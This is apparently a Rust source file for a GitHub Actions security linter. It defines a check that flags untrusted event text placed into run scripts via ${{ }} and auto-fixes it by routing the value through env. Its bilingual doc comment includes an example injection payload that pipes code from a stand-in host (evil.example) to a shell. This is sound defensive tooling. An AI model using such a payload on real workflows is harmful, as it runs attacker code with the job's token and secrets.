use sekisho_model::{Called, Fields, Fix, Job, Pipeline, Severity, Step, phrase};
use sekisho_text::Route;
use serde_json::Value;

use super::foreign::{foreign_context, is_github, is_started_from_outside, scripts};
use crate::deeds::expression::{expressions, reaching};
use crate::{Check, Context, Fault, Level, On, check};

check! {
    /// **What it shows.** Text that strangers write (the title of an issue, the name of a branch, a commit message) is put into a
    /// script with `${{ … }}`, directly, through `env` and `${{ env.X }}`, or through an input of a local action or workflow.
    ///
    /// **Why it matters.** GitHub fills the expression in before the shell reads the script. A title such as
    /// `"; curl https://evil.example/x | sh #` then is a command, run with the token and the secrets of the job.
    ///
    /// **Bad**
    /// ```yaml
    /// - run: echo "${{ github.event.issue.title }}"
    /// ```
    ///
    /// **Good.** A variable is data for the shell:
    /// ```yaml
    /// - env:
    ///     TITLE: ${{ github.event.issue.title }}
    ///   run: echo "$TITLE"
    /// ```
    ///
    /// **References.** [GitHub: Script injections](https://docs.github.com/en/actions/concepts/security/script-injections)
    ///
    /// # 日本語
    /// **示すこと。** 第三者が書ける文字列 (issue のタイトル、ブランチ名、コミットメッセージなど) が `${{ … }}` でスクリプトに埋め込まれていること。`env` を経由した `${{ env.X }}` や、ローカルの action・ワークフローの入力を経由する場合も含む。
    ///
    /// **理由。** GitHub はシェルがスクリプトを読む前に式を展開する。タイトルに `"; curl https://evil.example/x | sh #` と書かれればそれがコマンドになり、job のトークンとシークレットの権限で実行される。
    ///
    /// **直し方。** `env` に代入し、スクリプトからはシェル変数として参照する。
    WorkflowInjection = "workflow-injection";
    control: "T4.6",
    severity: Medium,
    profile: Default,
    level: Level::Job,
    fix: Safe,
    title: "Strangers' text in a script", "第三者の文字列がスクリプトに入る",
}

impl Check for WorkflowInjection {
    fn job(&self, cx: &Context<'_>, pipeline: &Pipeline, job: &Job, on: &mut On<'_>) {
        if !is_github(pipeline) {
            return;
        }
        let before = on.count();
        let mut has_scripts = false;
        for step in &job.steps {
            for (field, script) in scripts(step) {
                has_scripts = true;
                if let Some(fault) = injected(pipeline, job, step, field, script) {
                    on.fail(fault);
                }
            }
            if let Some(Called::Local(called)) = step.calls {
                passed_on(cx, pipeline, job, (&step.value, &step.route), called, on);
            }
        }
        if let Some(Called::Local(called)) = job.calls {
            has_scripts = true;
            passed_on(cx, pipeline, job, (&job.value, &job.route), called, on);
        }
        if has_scripts && on.count() == before {
            on.pass();
        }
    }
}

fn injected(
    pipeline: &Pipeline,
    job: &Job,
    step: &Step,
    field: &'static str,
    script: &str,
) -> Option<Fault> {
    let foreign: Vec<(usize, usize, &str, String)> = expressions(script)
        .into_iter()
        .filter_map(|(start, end, inner)| {
            let context = foreign_context(pipeline, job, Some(step), inner)?;
            Some((start, end, inner, context))
        })
        .collect();
    let (_, _, first, _) = foreign.first()?;
    let mut fault = Fault::at(step.route.at(field), phrase!(
        en: "`${{{{ {first} }}}}` becomes part of the script before it runs: whoever writes that text runs commands with the token and the secrets of this job; put it into `env` and use the variable",
        ja: "`${{{{ {first} }}}}` は実行前にスクリプトの一部になります。この文字列を書ける第三者が、job のトークンとシークレットの権限でコマンドを実行できます。`env` に代入し、変数として参照してください"
    ))
    .key(field);
    if is_started_from_outside(pipeline) {
        fault = fault.severity(Severity::High);
    }
    Some(match fix(pipeline, job, step, field, script, &foreign) {
        Some(fix) => fault.fix(fix),
        None => fault,
    })
}

/// Only a POSIX shell reads `${NAME}`, and not inside of single quotes.
fn fix(
    pipeline: &Pipeline,
    job: &Job,
    step: &Step,
    field: &str,
    script: &str,
    foreign: &[(usize, usize, &str, String)],
) -> Option<Fix> {
    let shell = [
        step.value.text("shell"),
        job.value.text("defaults.run.shell"),
        pipeline.value.text("defaults.run.shell"),
    ];
    let shell = shell.into_iter().flatten().next().unwrap_or("bash");
    let is_posix = shell.starts_with("bash") || shell.starts_with("sh");
    let is_windows = job
        .value
        .text("runs-on")
        .is_some_and(|runner| runner.contains("windows"));
    let is_plain = !script.contains('\'') && !script.contains("<<");
    if field != "run" || !is_posix || is_windows || !is_plain {
        return None;
    }
    let mut fix = Fix::safe(phrase!(en: "Pass the text through `env`", ja: "`env` を経由して渡す"));
    let mut changed = String::new();
    let mut from = 0;
    for (start, end, inner, context) in foreign {
        changed.push_str(script.get(from..*start)?);
        from = *end;
        let name = match inner.strip_prefix("env.") {
            Some(name) => name.to_owned(),
            None => variable(context),
        };
        if !inner.starts_with("env.") {
            let route = step.route.key("env").key(name.clone());
            let value = format!("${{{{ {inner} }}}}");
            let taken = step.value.key("env").and_then(|env| env.key(&name));
            if taken.is_some_and(|taken| *taken != Value::String(value.clone())) {
                return None;
            }
            fix = fix.set(route, value);
        }
        changed.push_str(&format!("${{{name}}}"));
    }
    changed.push_str(script.get(from..)?);
    Some(fix.set(step.route.key("run"), changed))
}

/// `github.event.issue.title` → `ISSUE_TITLE`.
fn variable(context: &str) -> String {
    let parts: Vec<&str> = context
        .split('.')
        .filter(|part| !matches!(*part, "github" | "event" | "*"))
        .collect();
    let name = parts.join("_").to_ascii_uppercase().replace('-', "_");
    if name.is_empty() {
        "EVENT".to_owned()
    } else {
        name
    }
}

/// Text that is handed to an input which the called file puts into a script.
fn passed_on(
    cx: &Context<'_>,
    pipeline: &Pipeline,
    job: &Job,
    (caller, route): (&Value, &Route),
    index: usize,
    on: &mut On<'_>,
) {
    let Some(inner) = cx.estate.pipelines().get(index) else {
        return;
    };
    for (input, value) in caller.entries("with").into_iter().flatten() {
        let Some(text) = value.as_str() else { continue };
        let foreign = expressions(text)
            .into_iter()
            .find(|(_, _, inner)| foreign_context(pipeline, job, None, inner).is_some());
        let Some((_, _, foreign)) = foreign else {
            continue;
        };
        let wanted = format!("inputs.{}", input.to_lowercase());
        let steps = inner.jobs.iter().flat_map(|job| &job.steps);
        let mut scripts = steps.flat_map(scripts);
        let is_run = scripts.any(|(_, script)| {
            expressions(script)
                .into_iter()
                .any(|(_, _, inner)| reaching(inner).contains(&wanted))
        });
        if is_run {
            let path = &inner.path;
            let mut fault = Fault::at(
                route.key("with").key(input.clone()),
                phrase!(
                    en: "`${{{{ {foreign} }}}}` is handed to the input `{input}`, which {path} puts into a script: whoever writes that text runs commands there",
                    ja: "`${{{{ {foreign} }}}}` が入力 `{input}` に渡され、{path} がそれをスクリプトに埋め込みます。この文字列を書ける第三者がコマンドを実行できます"
                ),
            );
            if is_started_from_outside(pipeline) {
                fault = fault.severity(Severity::High);
            }
            on.fail(fault);
        }
    }
}
